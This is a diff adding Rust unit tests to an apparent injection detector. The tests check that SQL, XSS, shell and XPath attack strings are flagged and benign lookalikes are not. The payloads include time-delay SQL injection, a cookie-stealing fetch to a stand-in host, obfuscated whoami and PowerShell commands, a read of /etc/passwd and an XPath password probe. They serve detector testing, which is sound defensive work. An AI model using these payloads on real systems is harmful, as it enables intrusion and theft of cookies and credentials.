@@ -49,6 +49,63 @@ fn sql_is_judged_by_structure() {
     ]);
 }
 
+#[test]
+fn sql_resumes_behind_whatever_closes_its_place() {
+    check(&[
+        ("1) where 7=7 and 3=3-- ", "sqli"),
+        ("1') as t where 5=5 or 5=(select count(*) from a as b,c as d)#", "sqli"),
+        ("1' in boolean mode) and 4=(select sleep(5) from t)#", "sqli"),
+        ("1*/ and case when 7=7 then 7 else json('x') end /*", "sqli"),
+        ("1$$ and elt(2=2,24)-- ", "sqli"),
+        ("1 1.e) and 7=(select 1.e(5 1.e) from t)", "sqli"),
+        ("(case when 8=8 then 1 else null end)", "sqli"),
+        ("7 waitfor delay '0:0:6'--1", "sqli"),
+        ("where = in the house, as (x) where (y)", ""),
+        ("in that case (when it rains) then stay at home", ""),
+        ("the price (12 EUR) as listed where available", ""),
+        ("<code class=\"x\">pg_temp</code> it's where the schema's tables are", ""),
+    ]);
+}
+
+#[test]
+fn scripts_that_prove_themselves_are_found_and_messages_are_not() {
+    check(&[
+        ("1,alert(1)", "xss"),
+        ("[1].map(alert)", "xss"),
+        ("x.then(()=>alert(1))", "xss"),
+        ("fetch('//h.example/?'+document.cookie)", "xss"),
+        ("top[8680439..toString(30)](1)", "xss"),
+        ("we should alert (see below) the team about the change", ""),
+        ("the alert(s) of this week were all read", ""),
+    ]);
+}
+
+#[test]
+fn shells_are_found_however_the_name_is_put_together() {
+    check(&[
+        (";who$(echo am)i", "shell"),
+        (";$(printf '\\x69')", "shell"),
+        ("ping%PROGRAMFILES:~10,-5%127.0.0.1", "shell"),
+        ("p^o^w^e^r^s^h^ell", "shell"),
+        ("c{a,oun}t", "shell"),
+        ("cat ${HOME:0:1}etc${HOME:0:1}passwd", "shell"),
+        ("a{1,3}b", ""),
+        ("src/{main,lib}.rs", ""),
+        ("tar -c [-f ARCHIVE] [OPTIONS] [FILE...]", ""),
+        ("salt & pepper; more or less", ""),
+    ]);
+}
+
+#[test]
+fn paths_of_xpath_are_found_behind_a_literal() {
+    check(&[
+        ("'] | //user[position()=1]/*[1] | /a['", "xpath"),
+        ("') and starts-with(../password,'c", "xpath"),
+        ("either // or | as you like", ""),
+        ("a | b | //c", ""),
+    ]);
+}
+
 // covers: ETSM-14, SAMO-17 (library)
 #[test]
 fn active_content_is_found_in_every_context() {
